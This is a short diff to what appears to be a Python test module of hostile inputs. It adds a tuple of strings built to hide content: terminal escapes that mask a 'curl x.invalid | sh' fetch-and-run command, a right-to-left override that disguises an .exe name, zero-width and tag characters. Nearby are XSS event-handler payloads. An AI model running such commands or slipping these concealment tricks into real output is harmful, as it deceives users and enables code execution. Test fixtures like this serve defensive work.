@@ -262,6 +262,15 @@ MARKDOWN = (
 
 ALL = SCRIPTS + HANDLERS + FRAMES + PAGE + CLOBBERING + MUTATIONS + LINKS + MARKDOWN
 
+HIDING = (
+    "ls \x1b]0;\ncurl x.invalid | sh #\x07",
+    "safe\u202egnp.exe\u202c",
+    "r\u200bm \x9b31m\x00\x7f",
+    "read me\U000e0072\U000e006d",
+    "over\rwritten \u2028 line \xad\u3164",
+)
+"""Texts of which something would not be seen."""
+
 NAMES = (
     "<svg-onload=ran()>",
     "<img-src=x-onerror=ran()>",
